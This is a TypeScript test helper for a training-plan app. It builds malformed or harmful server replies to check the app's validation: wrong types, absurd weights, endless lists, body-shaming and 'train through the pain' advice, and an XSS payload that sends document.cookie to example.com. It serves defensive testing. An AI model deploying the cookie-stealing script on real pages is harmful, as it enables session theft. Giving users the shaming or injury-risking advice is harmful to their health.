import type { CanonicalBlock } from '@/lib/domain/contract/canonical-block'
import { exerciseIds } from '@/lib/domain/catalogue/catalogue'
import type { CuesReply, MetadataReply, StoryReply, WeekReply } from '@/lib/domain/contract/wire'
import type { EvilKind } from './fault-script'

type Reply = Partial<MetadataReply & StoryReply & WeekReply & CuesReply>
type Evil = (reply: Reply, block: CanonicalBlock) => object

/**
 * A copy of a reply with bad content. Most kinds still fit the schema; the others are what servers send that ignore its
 * bounds and types.
 */
export function evilReply(kind: EvilKind, reply: object, block: CanonicalBlock): object {
  return evils[kind](structuredClone(reply), block)
}

const evils: Record<EvilKind, Evil> = {
  foreign: (reply, block) =>
    withExercises(reply, block, (n) => ['flying-trapeze-squat', 'moon-press'][n % 2]!),
  forbidden: (reply, block) => withExercises(reply, block, (n) => forbiddenIn(block, n)),
  sets: (reply) => withNumbers(reply, 500, 900),
  kilograms: (reply) => withWords(reply, 'Put 10,000 kg on the bar, or ten thousand kilos more.'),
  days: withOtherDays,
  same_weeks: withSameWeek,
  contradiction: (reply) =>
    withNumbers(
      withWords(
        reply,
        'This is a taper. Seven training days this week, each of 200 minutes: 19 sets of 47 reps at RIR 6 and 99 %.',
      ),
      1,
      1,
    ),
  numbers: (reply) => withWords(reply, 'Put 150 kg on the bar and do 12 sets.'),
  html: (reply) => withWords(reply, HTML),
  language: (reply) => withWords(reply, 'Diese Woche wird schwer. 今週は頑張ってください。'),
  pain: (reply) => withWords(reply, 'Train through the pain; your tendinitis will heal.'),
  shame: (reply) => withWords(reply, 'You are too fat for this, so burn calories and lose weight.'),
  flood: (reply) => withWords(reply, `${'💪🔥'.repeat(60)}\u0000\u202e${'!'.repeat(60)}`),
  bounds: (reply) => withNumbers(withWords(reply, `${'Very long words. '.repeat(200)}`), -3, 1e9),
  types: withOtherTypes,
  endless: withEndlessLists,
  hollow: (reply) => ({
    ...reply,
    ...(reply.days && { days: [] }),
    ...(reply.slots && { name: '', slots: [] }),
    ...(reply.why === undefined ? {} : { why: '', strategy: '' }),
    ...(reply.cues && { cues: [] }),
  }),
  // Sent raw, as small local models write them: see `rawText`.
  control: (reply) =>
    withWords(reply, 'Brace\nhard,\tbreathe\u0001 and \u001bkeep the bar close.\r\n'),
  all: (reply) =>
    withNumbers(
      withWords(
        withOtherDays(reply),
        `${HTML} Diese Woche wird schwer. 今週は頑張ってください。 Train through the pain; your tendinitis will heal. Put 150 kg on the bar and do 12 sets.`,
      ),
      500,
      900,
    ),
}

const HTML =
  '<script>fetch("https://example.com/?"+document.cookie)</script><img src=x onerror=alert(1)>'

/** A text of JSON with its control characters raw, where JSON would have them escaped. */
export function rawText(json: string): string {
  return json.replace(/\\([bfnrt]|u00[01][0-9a-f])/g, (escaped) =>
    String(JSON.parse(`"${escaped}"`)),
  )
}

/** Puts the words into every text of the reply. */
function withWords(reply: Reply, words: string): Reply {
  const texts = ['name', 'why', 'strategy', 'title', 'focus', 'note'] as const
  const said = texts.filter((key) => reply[key] !== undefined).map((key) => [key, words])
  return {
    ...reply,
    ...Object.fromEntries(said),
    ...(reply.days && { days: reply.days.map(([day = '']) => [day, words, words]) }),
    ...(reply.cues && { cues: reply.cues.map(([id = '']) => [id, words]) }),
  }
}

/** Other exercises in metadata and cues; in a week, whose exercises are fixed, slots that the plan does not have. */
function withExercises(reply: Reply, block: CanonicalBlock, id: (n: number) => string): object {
  const slots =
    reply.slots &&
    block.kind === 'metadata' &&
    block.slots.map(({ slot }, n) => ({ slot, a: id(2 * n), b: id(2 * n + 1) }))
  return {
    ...reply,
    ...(slots && { slots }),
    ...(reply.days && { order: reply.days.map((_, n) => id(n)), alone: [id(0)] }),
    ...(reply.cues && { cues: reply.cues.map((cue, n) => (n % 2 ? cue : [id(n), cue[1]])) }),
  }
}

/** An exercise of the catalogue that no slot offers. */
function forbiddenIn(block: CanonicalBlock, n: number): string {
  const allowed = new Set(
    block.kind === 'metadata' ? block.slots.flatMap(({ candidates }) => candidates) : [],
  )
  const others = exerciseIds.filter((id) => !allowed.has(id))
  return others[n % others.length] ?? exerciseIds[0]
}

/** Numbers that nobody asked for: sets and amounts are the plan's, and of candidates there are not so many. */
function withNumbers(reply: Reply, sets: number, amount: number): object {
  return {
    ...reply,
    ...(reply.slots && { slots: reply.slots.map((slot) => ({ ...slot, a: sets, b: amount })) }),
    ...(reply.days && {
      days: reply.days.map((day) => [...day, sets, amount]),
      ...{ sets, amount },
    }),
  }
}

/** Without the last day, with the first day twice, and with a day that nobody asked for. */
function withOtherDays(reply: Reply): Reply {
  const half = <T>(list: T[]) => list.slice(0, Math.ceil(list.length / 2))
  const [first, ...others] = reply.days ?? []
  return {
    ...reply,
    ...(reply.slots && { slots: half(reply.slots) }),
    ...(reply.cues && { cues: half(reply.cues) }),
    ...(first && {
      days: [
        first,
        ...others.slice(0, -1),
        [first[0]!, 'Again', first[2] ?? ''],
        ['7', ...first.slice(1)],
      ],
    }),
  }
}

/** The same bytes whatever the week, as far as days allow. */
function withSameWeek(reply: Reply): Reply {
  if (reply.cues) {
    return { cues: reply.cues.map(([id = '']) => [id, 'Move as you did last week.']) }
  }
  if (!reply.days) return reply
  return {
    title: 'Week 1',
    focus: 'The same again',
    note: 'Do what you did last week.',
    days: reply.days.map(([day = '']) => [day, 'Training day', '']),
    order: [],
    alone: [],
  }
}

/** Numbers as text or in lists, objects for lists, keys that are missing and keys that nobody knows. */
function withOtherTypes(reply: Reply): object {
  const { title: _title, name: _name, ...rest } = reply
  return {
    ...rest,
    ...{ why: 5, strategy: null, order: { d1s1: 1 }, alone: 7 },
    ...(rest.slots && {
      slots: rest.slots.map(({ slot, a }, n) => (n % 2 ? { slot, a: [a] } : slot)),
    }),
    ...(rest.days && {
      days: rest.days.map(([day, title], n) =>
        n % 2
          ? { day: Number(day), title, note: { text: 'a note' }, secret: [day] }
          : [day, title, ['a note']],
      ),
    }),
    ...(rest.cues && {
      cues: rest.cues.map(([id, cue], n) => (n % 2 ? { id, cue } : [id, [cue]])),
    }),
  }
}

/** Lists of a thousand. */
function withEndlessLists(reply: Reply): object {
  const slots = reply.days?.map(([day]) => `d${day}s1`) ?? []
  return {
    ...reply,
    ...(reply.slots && { slots: thousand(reply.slots) }),
    ...(reply.days && { days: thousand(reply.days), order: thousand(slots) }),
    ...(reply.cues && { cues: thousand(reply.cues) }),
  }
}

function thousand<T>(list: T[]): T[] {
  return list.length === 0 ? [] : Array.from({ length: 1000 }, (_, n) => list[n % list.length]!)
}
